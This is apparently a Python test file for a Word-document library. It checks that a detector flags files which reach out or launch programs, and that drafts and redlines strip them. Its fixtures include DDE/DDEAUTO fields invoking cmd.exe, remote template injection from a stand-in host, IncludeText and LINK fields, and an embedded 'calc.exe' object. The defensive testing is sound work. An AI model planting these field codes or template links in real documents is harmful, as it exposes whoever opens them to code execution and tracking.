"""A file that makes Word fetch or start something is known, and hands none of it on."""

from datetime import UTC, datetime

import pytest
from word_samples import NAMESPACES, p, relation, rich_file, t, unzipped, word_file, zipped

from huibao.document.package import open_package
from huibao.document.reaching_out import reaches_out
from huibao.document.reading.word import read_word
from huibao.document.redline import redline
from huibao.document.writing.word import write_word

NOW = datetime(2023, 7, 1, tzinfo=UTC)
SAID = "一是完成供水改造12处。"


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    kinds = ("begin", "separate", "end")
    begin, shown, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in kinds)
    return f"{begin}{runs}{shown}{end}"


def pointing(part: str, kind: str, target: str, *, inside: bool = False) -> bytes:
    """Return a file whose part points to that target."""
    files = unzipped(word_file(p(t(SAID)), settings=""))
    pointer = relation("rIdOut", kind, target)
    if not inside:
        pointer = pointer.replace("/>", ' TargetMode="External"/>')
    name = f"word/_rels/{part}.rels"
    rels = files.get(name, unzipped(word_file(""))["word/_rels/document.xml.rels"])
    text = rels.decode() if isinstance(rels, bytes) else rels
    files[name] = text.replace("</Relationships>", f"{pointer}</Relationships>")
    files["word/embeddings/one.bin"] = b"\xd0\xcf\x11\xe0calc.exe"
    return zipped(files)


def header_by_another_name() -> bytes:
    files = unzipped(word_file(p(t(SAID))))
    files["word/media/one.png"] = f"<w:hdr {NAMESPACES}>{p(field('DDEAUTO cmd'))}</w:hdr>"
    return zipped(files)


HOSTILE = {
    "remote_template": pointing("settings.xml", "attachedTemplate", "https://x.example/a.dotm"),
    "template_on_a_share": pointing("settings.xml", "attachedTemplate", r"file:///\\x\a.dotm"),
    "picture_from_elsewhere": pointing("document.xml", "image", "http://x.example/seen.png"),
    "another_scheme": pointing("document.xml", "oleObject", "mhtml:http://x.example/a!x-usc:b"),
    "object": pointing("document.xml", "oleObject", "embeddings/one.bin", inside=True),
    "chunk": pointing("document.xml", "aFChunk", "embeddings/one.bin", inside=True),
    "dde": word_file(p(t(SAID), field("DDE", "AUTO c:\\\\cmd.exe"))),
    "include_text": word_file(p(t(SAID), field(' IncludeText "http://x.example/a.docx"'))),
    "simple_field": word_file(p(t(SAID), '<w:fldSimple w:instr=" LINK Excel.Sheet a.xlsx"/>')),
    "spelt_in_numbers": word_file(p(t(SAID), field("QUOTE 68 68 69"))),
    "in_a_header": word_file(p(t(SAID)), header=p(field("DDE excel a"))),
    "by_another_name": header_by_another_name(),
}
PLAIN = {
    "rich": rich_file(),
    "page_number": word_file(p(t(SAID), field("PAGE"), field(' HYPERLINK "https://gov.example"'))),
    "web_link": pointing("document.xml", "hyperlink", "https://gov.example"),
    "template_of_its_writer": pointing(
        "settings.xml", "attachedTemplate", r"file:///C:\Users\su\Normal.dotm"
    ),
    "template_beside": pointing("settings.xml", "attachedTemplate", "Normal.dotm"),
    "ours": write_word(SAID),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_fetches_or_starts_something_is_known(name: str) -> None:
    assert reaches_out(HOSTILE[name])


@pytest.mark.parametrize("name", PLAIN)
def test_a_file_that_does_not_is_not_warned_of(name: str) -> None:
    assert not reaches_out(PLAIN[name])


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_comes_into_drafts_and_redlines(name: str) -> None:
    draft = write_word(read_word(HOSTILE[name]).text)
    assert SAID in read_word(draft).text or name == "by_another_name"
    marked = redline(write_word("一是完成供水改造10处。"), draft, author="办公室", when=NOW)
    for ours in (draft, marked):
        assert not reaches_out(ours)
        everything = b"".join(map(open_package(ours).read, open_package(ours).names))
        assert b"x.example" not in everything
        assert b"cmd" not in everything


@pytest.mark.parametrize(
    "name", ["remote_template", "template_on_a_share", "picture_from_elsewhere"]
)
def test_a_redline_of_such_a_file_itself_fetches_nothing(name: str) -> None:
    old = write_word("一是完成供水改造10处。")
    made = redline(old, HOSTILE[name], author="办公室", when=NOW)
    assert not reaches_out(made)
    assert read_word(made).text == read_word(HOSTILE[name]).text
